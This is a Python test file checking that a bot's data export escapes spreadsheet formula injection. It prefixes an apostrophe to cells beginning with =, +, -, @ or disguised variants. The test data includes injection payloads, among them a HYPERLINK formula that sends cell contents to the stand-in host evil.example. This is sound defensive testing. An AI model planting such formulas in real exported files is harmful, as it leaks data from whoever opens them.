"""No cell of an exported file is a formula to a spreadsheet."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from psycopg.types.json import Jsonb

from infra.fake_discord.client import Client
from infra.fake_discord.members import ADMIN, BOB
from shared.features import export
from tests.shared.features.export.files import table
from tests.shared.features.rows import earned
from tests.sql import Database

SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("  =1", "'  =1"),
        ("\u00a0=1", "'\u00a0=1"),
        ("\t=1", "'\t'=1"),
        ("\r=1", "'\r'=1"),
        ("\tplain", "'\tplain"),
        ("\nplain", "'\nplain"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("\uff0b1", "'\uff0b1"),
        ("\uff0d1", "'\uff0d1"),
        ("\uff20SUM(A1)", "'\uff20SUM(A1)"),
        ("fine;=1+1", "fine;'=1+1"),
        ("fine\n=1+1", "fine\n'=1+1"),
        ("-", "'-"),
        ("-5", "-5"),
        ("-0.25", "-0.25"),
        ("310000000000000001", "310000000000000001"),
        ("-5;x", "'-5;x"),
        ("\u200b=1", "'\u200b=1"),
        ("\ufeff \u2060=1", "'\ufeff \u2060=1"),
        ("\u202e\u200d\u00ad@x", "'\u202e\u200d\u00ad@x"),
        ("\x00+1", "'\x00+1"),
        ("\ufe0f\U000e0020-x", "'\ufe0f\U000e0020-x"),
        ('"=1+1"', '\'"=1+1"'),
        ("fine;\u200b\u200b=1", "fine;'\u200b\u200b=1"),
        ("fine;; =1", "fine;;' =1"),
        ("fine\n\n;=1;\n@x", "fine\n\n;'=1;\n'@x"),
        ("\u200bfine", "\u200bfine"),
        ("+5", "'+5"),
        ("1-1", "1-1"),
        ("a=b", "a=b"),
        ("somebody@example.org", "somebody@example.org"),
        ('{"a": -1}', '{"a": -1}'),
        ("", ""),
    ],
)
def test_what_a_spreadsheet_would_calculate_is_text(cell: str, written: str) -> None:
    assert export.without_formulas(cell) == written


@given(st.text(alphabet=st.sampled_from(f"{SIGNS} \t\r\n;,'\"a1.\u00a0")))
def test_no_cell_begins_to_calculate_by_commas_or_by_semicolons(text: str) -> None:
    cell = export.without_formulas(text)
    if not re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", text):
        assert not re.match(rf"\s*[{re.escape(SIGNS)}]|[\t\r\n]", cell)
        assert not any(re.match(rf"\s*[{re.escape(SIGNS)}]", part) for part in re.split(r"[;\t\r\n]", cell))
    assert cell.replace("'", "") == text.replace("'", "")


def test_a_reason_that_is_a_formula_arrives_as_text(rich: Client, db: Database) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    earned(db, rich, BOB, 1, reason=formula)
    entry = db.value("select max(id)::text from reward_ledger")
    earned(db, rich, BOB, -3.5, source="reversal", reason='two\nlines, "quoted"', reference=entry)
    newest, before, *_ = table(rich.slash("export", type="rewards", user=ADMIN))
    assert (newest["amount"], newest["reason"]) == ("-3.5", 'two\nlines, "quoted"')
    assert before["reason"] == f"'{formula}"


def test_a_setting_that_is_a_formula_arrives_as_text(rich: Client, db: Database) -> None:
    settings = Jsonb({"admin_channel": "@SUM(A1)"})
    with db.without_triggers():  # from before migration 014
        db.run("update discord_server_configs set config_metadata = %s, server_name = '=1+1'", settings)
    lines = {row["key"]: row["value"] for row in table(rich.slash("export", type="config", user=ADMIN))}
    assert (lines["settings.admin_channel"], lines["server.server_name"]) == ("'@SUM(A1)", "'=1+1")


@pytest.mark.parametrize("part", ["\n", " ", ";", "\n ", "\u200b", "x\n", "=", "\n=", '"', "-;"], ids=ascii)
def test_a_long_cell_takes_time_by_its_length_alone(part: str) -> None:
    """A pattern that looked ahead from each place would not finish: 60,000 line breaks took it 12 seconds."""
    assert len(export.without_formulas(part * 1_000_000 + "x")) <= 2 * len(part) * 1_000_000 + 3
